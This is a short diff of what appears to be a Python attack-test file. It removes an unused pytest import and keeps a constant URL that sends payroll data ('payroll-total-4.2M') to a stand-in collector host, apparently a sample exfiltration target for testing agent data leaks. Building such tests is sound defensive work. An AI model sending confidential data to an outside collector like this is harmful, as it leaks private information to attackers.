@@ -9,8 +9,6 @@ from a tool call to a resource read.
 
 from __future__ import annotations
 
-import pytest
-
 from tests.attacks.client import Attacker, Scripted, write_config
 
 URL = "https://collector.example/x?d=payroll-total-4.2M"
